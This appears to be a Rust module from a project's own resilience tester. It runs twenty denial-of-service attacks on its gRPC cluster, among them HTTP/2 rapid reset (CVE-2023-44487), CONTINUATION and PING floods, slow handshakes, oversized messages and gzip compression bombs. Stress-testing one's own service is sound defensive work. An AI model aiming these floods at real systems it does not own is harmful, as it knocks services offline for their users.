//! The attacks by gRPC: each runs until its time is over, as fast as a slow line allows.

use std::net::TcpStream;
use std::sync::Arc;
use std::thread::sleep;
use std::time::{Duration, Instant};

use queens_proto::pb::{self, worker_message::Message};
use tokio_rustls::rustls::ClientConfig;
use tonic_prost::prost::Message as _;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Endings, HEADERS, PING, Peer, RST_STREAM, SETTINGS, frame,
    head, message, varint,
};

/// The attacked cluster, and the attacker's credentials.
pub(crate) struct Target {
    pub(crate) address: String,
    pub(crate) config: Arc<ClientConfig>,
    /// An invited worker's token.
    pub(crate) token: String,
    /// The address of the pages.
    pub(crate) pages: String,
    /// The TLS configuration for HTTP/1.1.
    pub(crate) http: Arc<ClientConfig>,
    /// An invited viewer's token.
    pub(crate) viewer: String,
    /// The number of connections, where their number is the attack.
    pub(crate) n_connections: usize,
}

/// The result of an attack.
#[derive(Debug, Default)]
pub(crate) struct Outcome {
    /// The number of frames, requests or connections that were sent.
    pub(crate) n_sent: u64,
    pub(crate) endings: Endings,
}

/// An attack.
pub(crate) struct Kind {
    pub(crate) name: &'static str,
    pub(crate) run: fn(&Target, Instant) -> Outcome,
}

/// The pause between two bursts: an attacker on the victim's machine must not simply take its processor.
const PAUSE: Duration = Duration::from_millis(10);

const SESSION: &str = "/queens.v1.Workers/Session";

pub(crate) const KINDS: [Kind; 20] = [
    Kind { name: "idle connections", run: idle },
    Kind { name: "half-open TLS handshakes", run: half_open },
    Kind { name: "whole TLS handshakes, one after the other", run: handshakes },
    Kind { name: "greetings that come byte by byte", run: slow_greetings },
    Kind { name: "rapid reset", run: rapid_reset },
    Kind { name: "CONTINUATION flood", run: continuations },
    Kind { name: "PING flood", run: |target, end| flood(target, end, &frame(PING, 0, 0, &[7; 8])) },
    Kind { name: "SETTINGS flood", run: |target, end| flood(target, end, &frame(SETTINGS, 0, 0, &[])) },
    Kind { name: "frames that are too large", run: large_frames },
    Kind { name: "heads that are too large", run: large_heads },
    Kind { name: "requests without a token", run: |target, end| requests(target, end, None, &[]) },
    Kind { name: "wrong tokens", run: wrong_tokens },
    Kind {
        name: "messages of 4 GiB",
        run: |target, end| speak(target, end, &[], &message(false, u32::MAX, &[1; 64])),
    },
    Kind { name: "large messages that never end", run: never_ending },
    Kind { name: "messages with too many empty parts", run: empty_parts },
    Kind { name: "Hellos that never end", run: endless_hellos },
    Kind { name: "large messages of strangers", run: strangers },
    Kind { name: "compression bombs", run: bombs },
    Kind {
        name: "messages that make no sense",
        run: |target, end| speak(target, end, &[], &message(false, 64, &[0xff; 64])),
    },
    Kind { name: "sessions that say nothing", run: |target, end| speak(target, end, &[], &[]) },
];

/// Runs a function on one connection after the other, until each is closed.
fn again_and_again(
    target: &Target,
    end: Instant,
    mut burst: impl FnMut(&mut Peer, &mut u32) -> Option<u64>,
) -> Outcome {
    let mut outcome = Outcome::default();
    while Instant::now() < end {
        let Some(mut peer) = Peer::greet(&target.address, &target.config) else {
            *outcome.endings.entry("no connection".to_owned()).or_default() += 1;
            sleep(PAUSE);
            continue;
        };
        let mut stream = 1;
        while Instant::now() < end && stream < 100_000 {
            match burst(&mut peer, &mut stream) {
                Some(n_sent) => outcome.n_sent += n_sent,
                None => {
                    _ = peer.listen(&mut outcome.endings);
                    break;
                }
            }
            if !peer.listen(&mut outcome.endings) {
                break;
            }
            sleep(PAUSE);
        }
    }
    outcome
}

fn idle(target: &Target, end: Instant) -> Outcome {
    let mut all = Vec::new();
    while all.len() < target.n_connections && Instant::now() < end {
        all.extend(TcpStream::connect(&target.address).ok());
        if all.len() % 100 == 0 {
            sleep(PAUSE);
        }
    }
    sleep(end.saturating_duration_since(Instant::now()));
    Outcome { n_sent: all.len() as u64, ..Outcome::default() }
}

fn half_open(target: &Target, end: Instant) -> Outcome {
    use std::io::Write;
    let mut all = Vec::new();
    while all.len() < target.n_connections.min(2000) && Instant::now() < end {
        if let Ok(mut stream) = TcpStream::connect(&target.address) {
            _ = stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
            all.push(stream);
        }
        if all.len() % 100 == 0 {
            sleep(PAUSE);
        }
    }
    sleep(end.saturating_duration_since(Instant::now()));
    Outcome { n_sent: all.len() as u64, ..Outcome::default() }
}

fn handshakes(target: &Target, end: Instant) -> Outcome {
    let mut outcome = Outcome::default();
    while Instant::now() < end {
        match Peer::connect(&target.address, &target.config) {
            Some(_) => outcome.n_sent += 1,
            None => *outcome.endings.entry("no connection".to_owned()).or_default() += 1,
        }
    }
    outcome
}

fn slow_greetings(target: &Target, end: Instant) -> Outcome {
    let mut outcome = Outcome::default();
    let n_peers = target.n_connections.min(200);
    let mut peers: Vec<Peer> =
        (0..n_peers).filter_map(|_| Peer::connect(&target.address, &target.config)).collect();
    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".iter().cycle() {
        peers.retain_mut(|peer| peer.send(&[*byte]));
        outcome.n_sent += peers.len() as u64;
        if Instant::now() >= end {
            break;
        }
        sleep(Duration::from_millis(200));
    }
    outcome
}

/// Sends requests and cancels them at once (CVE-2023-44487).
fn rapid_reset(target: &Target, end: Instant) -> Outcome {
    let head = head(SESSION, Some(&target.token), &[]);
    again_and_again(target, end, |peer, stream| {
        let mut burst = Vec::new();
        for _ in 0..50 {
            burst.extend(frame(HEADERS, END_HEADERS, *stream, &head));
            burst.extend(frame(RST_STREAM, 0, *stream, &[0, 0, 0, 8]));
            *stream += 2;
        }
        peer.send(&burst).then_some(50)
    })
}

/// Sends a head that never ends.
fn continuations(target: &Target, end: Instant) -> Outcome {
    let head = head(SESSION, None, &[]);
    again_and_again(target, end, |peer, stream| {
        let mut burst = Vec::new();
        if *stream == 1 {
            burst.extend(frame(HEADERS, 0, 1, &head));
            *stream = 3;
        }
        for _ in 0..50 {
            burst.extend(frame(CONTINUATION, 0, 1, &[]));
            burst.extend(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"));
        }
        peer.send(&burst).then_some(100)
    })
}

fn flood(target: &Target, end: Instant, one: &[u8]) -> Outcome {
    let burst = one.repeat(200);
    again_and_again(target, end, |peer, _| peer.send(&burst).then_some(200))
}

fn large_frames(target: &Target, end: Instant) -> Outcome {
    let mut large = frame(DATA, 0, 1, &[0; 64]);
    large[..3].copy_from_slice(&[0xff; 3]);
    again_and_again(target, end, |peer, _| peer.send(&large).then_some(1))
}

fn large_heads(target: &Target, end: Instant) -> Outcome {
    let long = "x".repeat(100);
    let more: Vec<_> = (0..120).map(|_| ("x-long", long.as_str())).collect();
    let head = head(SESSION, Some(&target.token), &more);
    let more = frame(CONTINUATION, 0, 1, &head);
    again_and_again(target, end, |peer, stream| {
        if *stream == 1 {
            *stream = 3;
            return peer.send(&frame(HEADERS, 0, 1, &head)).then_some(1);
        }
        peer.send(&more).then_some(1)
    })
}

fn requests(target: &Target, end: Instant, token: Option<&str>, more: &[(&str, &str)]) -> Outcome {
    let head = head("/queens.v1.Jobs/Submit", token, more);
    again_and_again(target, end, |peer, stream| {
        let mut burst = Vec::new();
        for _ in 0..20 {
            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, &head));
            *stream += 2;
        }
        peer.send(&burst).then_some(20)
    })
}

fn wrong_tokens(target: &Target, end: Instant) -> Outcome {
    let wrong = format!("queens_1_{}", "0123456789abcdef".repeat(4));
    requests(target, end, Some(&wrong), &[])
}

/// Opens sessions with a worker's token, and sends bytes on each.
fn speak(target: &Target, end: Instant, more: &[(&str, &str)], said: &[u8]) -> Outcome {
    let head = head(SESSION, Some(&target.token), more);
    again_and_again(target, end, |peer, stream| {
        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
        if !said.is_empty() {
            burst.extend(frame(DATA, 0, *stream, said));
        }
        *stream += 2;
        peer.send(&burst).then_some(1)
    })
}

/// Sends only the beginning of messages that are as large as they may be.
fn never_ending(target: &Target, end: Instant) -> Outcome {
    speak(target, end, &[], &message(false, 256 << 10, &[1; 8000]))
}

/// Names held leases without an end, in pieces of 10 KiB.
fn endless_hellos(target: &Target, end: Instant) -> Outcome {
    let lease = pb::HeldLease {
        lease: 1,
        job: vec![7; 16],
        spans: (1..1000).map(|to| pb::Span { part: 1 << 30, from: 0, to }).collect(),
    };
    let held = pb::HeldLeases { leases: vec![lease], more: true };
    let hello = pb::Hello {
        protocol: 2,
        name: "fool".to_owned(),
        build: "1".to_owned(),
        kernel: "portable".to_owned(),
        threads: 1,
        held: Some(pb::HeldLeases { leases: Vec::new(), more: true }),
        ..pb::Hello::default()
    };
    let framed = |message| {
        let bytes = pb::WorkerMessage { message: Some(message) }.encode_to_vec();
        self::message(false, u32::try_from(bytes.len()).expect("small"), &bytes)
    };
    let (hello, piece) = (framed(Message::Hello(hello)), framed(Message::Held(held)));
    let head = head(SESSION, Some(&target.token), &[]);
    again_and_again(target, end, |peer, stream| {
        let mut burst = Vec::new();
        if *stream == 1 {
            burst.extend(frame(HEADERS, END_HEADERS, 1, &head));
            burst.extend(frame(DATA, 0, 1, &hello));
            *stream = 3;
        }
        burst.extend(frame(DATA, 0, 1, &piece));
        peer.send(&burst).then_some(1)
    })
}

/// Sends half of messages of 4 MiB to methods without authentication.
fn strangers(target: &Target, end: Instant) -> Outcome {
    let head = head("/grpc.health.v1.Health/Check", None, &[]);
    again_and_again(target, end, |peer, stream| {
        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
        burst.extend(frame(DATA, 0, *stream, &message(false, 4 << 20, &[1; 8000])));
        *stream += 2;
        peer.send(&burst).then_some(1)
    })
}

/// Reports more empty deltas than are allowed.
fn empty_parts(target: &Target, end: Instant) -> Outcome {
    let report = [0x12, 0].repeat(8193);
    // A report of this many bytes.
    let mut said = vec![0x12];
    varint(&mut said, report.len());
    said.extend(report);
    let length = u32::try_from(said.len()).expect("small");
    // In two frames: one holds at most 16 KiB.
    let (first, second) = said.split_at(12_000);
    let head = head(SESSION, Some(&target.token), &[]);
    again_and_again(target, end, |peer, stream| {
        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
        burst.extend(frame(DATA, 0, *stream, &message(false, length, first)));
        burst.extend(frame(DATA, 0, *stream, second));
        *stream += 2;
        peer.send(&burst).then_some(1)
    })
}

/// Sends compressed messages, in which a million zeros would take a kilobyte.
fn bombs(target: &Target, end: Instant) -> Outcome {
    speak(target, end, &[("grpc-encoding", "gzip")], &message(true, 64, &[0x1f; 64]))
}
